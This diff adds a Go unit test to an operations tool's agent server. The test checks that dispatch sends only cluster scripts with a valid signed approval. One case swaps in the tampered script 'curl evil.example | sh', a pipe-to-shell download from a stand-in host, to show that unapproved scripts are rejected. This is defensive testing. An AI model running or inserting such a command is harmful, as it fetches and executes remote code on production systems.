@@ -0,0 +1,108 @@
+package agentserver
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/pem"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"go.uber.org/zap"
+
+	"github.com/BogdanDolia/ops-butler/internal/calendar"
+	"github.com/BogdanDolia/ops-butler/internal/config"
+	"github.com/BogdanDolia/ops-butler/internal/models"
+	"github.com/BogdanDolia/ops-butler/internal/signing"
+)
+
+func TestDispatchChecksApproval(t *testing.T) {
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyFile := filepath.Join(t.TempDir(), "key.pem")
+	if err := os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	signer, err := signing.LoadSigner(keyFile, 24*time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	const script = "kubectl rollout restart deploy/$APP"
+	approved := func(change func(*models.Template)) *models.Template {
+		template := &models.Template{Name: "restart", Script: script}
+		approval := signer.Approve(template.Name, "", script, time.Now())
+		template.ScriptKeyID, template.ScriptExpiresAt, template.ScriptSignature = approval.KeyID, approval.ExpiresAt, approval.Signature
+		if change != nil {
+			change(template)
+		}
+		return template
+	}
+
+	tests := []struct {
+		name      string
+		approvals signing.KeySet
+		template  *models.Template
+		wantSent  bool
+	}{
+		{name: "approved script", approvals: signing.KeySet{signer.KeyID(): pub}, template: approved(nil), wantSent: true},
+		{name: "script changed in the database", approvals: signing.KeySet{signer.KeyID(): pub},
+			template: approved(func(t *models.Template) { t.Script = "curl evil.example | sh" })},
+		{name: "never approved", approvals: signing.KeySet{signer.KeyID(): pub},
+			template: &models.Template{Name: "restart", Script: script}},
+		{name: "no keys configured leaves the check to agents", template: &models.Template{Name: "restart", Script: script},
+			wantSent: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			agents := &fakeAgents{agents: []*models.ClusterAgent{{Name: "prod", LastHeartbeat: time.Now(), Capacity: 4}}}
+			agents.agents[0].ID = 1
+			templates := &fakeTemplates{templates: map[uint]*models.Template{1: tt.template}}
+			tasks := &fakeTasks{}
+			stream := &fakeTaskStream{}
+			s := &Server{
+				config:      config.GRPCConfig{AgentTimeout: time.Minute, TaskTimeout: time.Hour, ApprovalMaxTTL: 48 * time.Hour},
+				logger:      zap.NewNop(),
+				agents:      agents,
+				tasks:       tasks,
+				templates:   templates,
+				approvals:   tt.approvals,
+				taskStreams: map[uint]*taskStream{1: {stream: stream}},
+				guard:       calendar.NewGuard(&fakeCalendars{}, agents, templates),
+			}
+
+			task := &models.TaskInstance{TemplateID: 1, State: models.TaskStatePending, Params: models.JSONSchema{"APP": "web"}}
+			task.ID = 7
+			if _, err := s.dispatch(context.Background(), task); err != nil {
+				t.Fatalf("dispatch() error = %v", err)
+			}
+
+			if tt.wantSent {
+				if len(stream.sent) != 1 {
+					t.Fatalf("sent %d requests, want 1", len(stream.sent))
+				}
+				req := stream.sent[0]
+				if req.Script != tt.template.Script || string(req.Signature) != string(tt.template.ScriptSignature) {
+					t.Errorf("sent request doesn't carry the template's script and approval")
+				}
+				return
+			}
+			if len(stream.sent) != 0 || len(tasks.claimed) != 0 {
+				t.Errorf("sent %d requests and claimed %v, want none", len(stream.sent), tasks.claimed)
+			}
+			if len(tasks.updated) != 1 || tasks.updated[0].State != models.TaskStateFailed {
+				t.Errorf("task updates = %v, want the task failed", tasks.updated)
+			}
+		})
+	}
+}